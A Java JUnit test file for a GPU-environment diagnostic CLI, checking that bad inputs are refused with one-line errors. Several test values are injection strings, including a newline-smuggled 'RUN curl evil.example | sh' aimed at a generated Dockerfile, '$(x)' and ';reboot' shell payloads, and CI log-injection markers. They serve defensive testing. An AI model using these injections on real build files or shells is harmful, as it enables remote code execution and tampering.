package dev.gpudoctor.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.gpudoctor.cases.MachineCase;
import dev.gpudoctor.finding.Catalog;
import dev.gpudoctor.finding.Remedy;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What can't be used is refused with exit code 2 and one line that says why and names it once. */
class InputFaultsTest {
    @TempDir
    Path folder;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "check --from nowhere.json",
                "check --root here --host nowhere.json",
                "check --from - --baseline nowhere.json",
                "check --from - --policy nowhere.json",
                "check --root nowhere.json",
                "diff nowhere.json -",
                "lint nowhere.json",
                "explain --log nowhere.json",
                "smoke --model nowhere.json",
            })
    void aMissingFileIsNamedOnceWithTheReason(String line) throws Exception {
        Files.createDirectories(folder.resolve("here/etc"));
        CommandLineRun run = gpudoctor(line.split(" "));

        assertThat(run.code()).isEqualTo(2);
        assertThat(run.out()).isEmpty();
        assertThat(run.err()).hasLineCount(1).contains("can't read").contains("nowhere.json: no such file");
        assertThat(run.err().split("nowhere.json", -1)).hasSize(2);
    }

    @Test
    void aDirectoryWhereAFileBelongsIsCalledOne() throws Exception {
        Files.createDirectory(folder.resolve("directory"));
        assertThat(gpudoctor("check", "--from", "directory").err()).contains("can't read directory: is a directory");
        assertThat(gpudoctor("check", "--from", "-", "-o", "directory").err())
                .contains("can't write directory: is a directory");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/opt/empty", "/usr/share/doc", "/opt/nothing-here", "/etc/hostname", "/opt/sources"})
    void aPlaceWithoutPythonIsNoEnvironment(String place) throws Exception {
        Path root = folder.resolve("root");
        for (String directory : List.of(
                "opt/empty",
                "opt/sources/torch",
                "usr/share/doc",
                "usr/lib/python3/dist-packages/torch-2.8.0.dist-info")) {
            Files.createDirectories(root.resolve(directory));
        }
        Files.createDirectories(root.resolve("etc"));
        Files.writeString(root.resolve("etc/hostname"), "bench");
        Files.writeString(
                root.resolve("usr/lib/python3/dist-packages/torch-2.8.0.dist-info/METADATA"),
                "Name: torch\nVersion: 2.8.0\n");
        CommandLineRun run = gpudoctor("check", "--root", "root", "--python", place);

        assertThat(run.code()).isEqualTo(2);
        assertThat(run.err()).hasLineCount(1).contains("--python", place);
        assertThat(gpudoctor("check", "--root", "root", "--python", "/usr").err())
                .isEmpty();
    }

    @Test
    void aCommandThatAHintNamesExists() {
        CommandLineRun run = gpudoctor("check", "--from", "-", "--assume", "gpu=Voodoo 2");

        assertThat(run.code()).isEqualTo(2);
        Matcher hint = Pattern.compile("'gpudoctor ([a-z ]+)' names them").matcher(run.err());
        assertThat(hint.find()).isTrue();
        assertThat(CommandLineRun.of(hint.group(1).split(" ")).code()).isZero();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Windows/System32",
                "WINDOWS/system32/drivers/etc",
                "Lib/site-packages/torch-2.8.0.dist-info",
                "venv/Lib/site-packages",
                "Users/me/AppData/Local/Programs/Python/Python312/Lib/site-packages",
                "Program Files/NVIDIA GPU Computing Toolkit/CUDA/v12.8/bin",
            })
    void aTreeOfWindowsIsRefused(String directory) throws Exception {
        Files.createDirectories(folder.resolve("tree").resolve(directory));
        CommandLineRun run = gpudoctor("check", "--root", "tree");

        assertThat(run.code()).isEqualTo(2);
        assertThat(run.out()).isEmpty();
        assertThat(run.err()).hasLineCount(1).contains("Windows", "cannot judge yet");
    }

    @ParameterizedTest
    @ValueSource(strings = {"mnt/c/Windows/System32", "opt/game/drive_c/windows/system32", "home/me/Lib/site-packages"})
    void aTreeOfLinuxWithFilesOfWindowsIsJudged(String directory) throws Exception {
        Files.createDirectories(folder.resolve("tree/usr/lib"));
        Files.createDirectories(folder.resolve("tree").resolve(directory));
        assertThat(gpudoctor("check", "--root", "tree").err()).isEmpty();
    }

    @ParameterizedTest
    @CsvSource({
        "/os/id, Windows",
        "/os/id, windows",
        "/os/prettyName, Microsoft Windows 11 Pro",
        "/pythons/0/prefix, C:\\venv",
        "/pythons/0/prefix, D:/venv",
        "/pythons/0/packages/0/directory, venv\\Lib\\site-packages",
        "/scene/root, C:\\"
    })
    void aSnapshotOfWindowsIsRefused(String place, String text) throws Exception {
        ObjectNode machine = MachineCase.named("healthy-workstation").machine();
        ObjectNode parent = (ObjectNode) machine.at(place.substring(0, place.lastIndexOf('/')));
        String field = place.substring(place.lastIndexOf('/') + 1);
        if (parent.path(field) instanceof ObjectNode observed) {
            observed.put("value", text);
            if (field.equals("prettyName")) {
                ((ObjectNode) parent.path("id"))
                        .removeAll()
                        .put("state", "unreadable")
                        .put("reason", "x");
                ((ObjectNode) parent.path("id")).putArray("evidence");
            }
        } else {
            parent.put(field, text);
        }
        CommandLineRun run = CommandLineRun.in(folder, machine.toString(), "check", "--from", "-");

        assertThat(run.code()).isEqualTo(2);
        assertThat(run.out()).isEmpty();
        assertThat(run.err()).hasLineCount(1).contains("Windows");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "evil\\nRUN curl evil.example | sh",
                "evil\\rRUN x",
                "evil\\u2028RUN x",
                "evil AS base",
                "evil\\\"x",
                "$(x)",
                "a/b:c/d"
            })
    void anOverlaysRepositoryNeverGetsIntoADockerfile(String repository) throws Exception {
        Path matrix = overlay("{\"repository\": \"" + repository
                + "\", \"tag\": \"1\", \"family\": \"ngc\", \"framework\": \"torch\", \"sources\": [\"own\"]}");

        CommandLineRun verify = CommandLineRun.of("matrix", "verify", matrix.toString());
        assertThat(verify.code()).isEqualTo(1);
        assertThat(verify.out()).contains("/repository");
        for (String command : List.of("images", "dockerfile", "suggest")) {
            CommandLineRun run = CommandLineRun.of(command, "torch", "gpu=Tesla T4", "--matrix", matrix.toString());
            assertThat(run.out()).doesNotContain("RUN x", "RUN curl");
        }
    }

    @Test
    void noTextOfAnOverlayHasASecondLine() throws Exception {
        Path matrix =
                overlay("{\"repository\": \"nvcr.io/x\", \"tag\": \"1\", \"family\": \"ngc\", \"sources\": [\"own\"],"
                        + " \"companions\": {\"torch\": \"2.8\\n::error::x\"}, \"note\": \"one\\ntwo\"}");
        CommandLineRun verify = CommandLineRun.of("matrix", "verify", matrix.toString());
        assertThat(verify.code()).isEqualTo(1);
        assertThat(verify.out()).contains("line break");
    }

    @ParameterizedTest
    @ValueSource(strings = {"os=ubuntu\n::error::x", "os=ubuntu22.04\r##[error]x", "os=\u001b[31m"})
    void aRequirementIsOneLine(String requirement) {
        for (String command : List.of("suggest", "images", "dockerfile")) {
            CommandLineRun run = CommandLineRun.of(command, "torch", "gpu=Tesla T4", requirement);
            assertThat(run.code()).isEqualTo(2);
            assertThat(run.out()).isEmpty();
            assertThat(run.err()).hasLineCount(1).doesNotContain("\u001b", "\n::error", "##[");
        }
    }

    /** Whatever a directory is called, the shell that a remedy is pasted into takes it for one word. */
    @ParameterizedTest
    @CsvSource({"/opt/cuda, /opt/cuda", "/opt/my cuda;reboot, '''/opt/my cuda;reboot'''", "/opt/$(x), '''/opt/$(x)'''"})
    void aRemedyThatSetsAVariableQuotesItsValue(String place, String word) {
        List<String> names = List.of("folder", "taken", "value", "better");
        long seen = new Catalog()
                .all().stream()
                        .filter(condition -> condition.remedies().stream()
                                .anyMatch(remedy -> remedy.text().matches(".*export [A-Z_]+=\\{.*")))
                        .flatMap(condition -> new Catalog()
                                        .finding(
                                                condition.id(),
                                                "",
                                                names.stream().collect(Collectors.toMap(name -> name, name -> place)),
                                                List.of(),
                                                List.of())
                                        .remedies()
                                        .stream())
                        .map(Remedy::text)
                        .filter(text -> text.matches(".*export [A-Z_]+=[^A-Z].*"))
                        .peek(text -> assertThat(text).contains("=" + word))
                        .count();
        assertThat(seen).isPositive();
    }

    private CommandLineRun gpudoctor(String... arguments) {
        return CommandLineRun.in(
                folder, MachineCase.named("healthy-workstation").machine().toString(), arguments);
    }

    private Path overlay(String row) throws IOException {
        Path matrix = Files.createDirectories(folder.resolve("overlay/images")).getParent();
        Files.writeString(
                matrix.resolve("manifest.json"),
                "{\"schemaVersion\": 1, \"dataVersion\": \"7.0.0\", \"asOf\": \"2026-01-31\", \"mode\": \"overlay\"}");
        Files.writeString(
                matrix.resolve("sources.json"),
                "{\"rows\": [{\"id\": \"own\", \"title\": \"Own\", \"url\": \"https://own.example/\"}]}");
        Files.writeString(matrix.resolve("images/ngc.json"), "{\"rows\": [" + row + "]}");
        return matrix;
    }
}
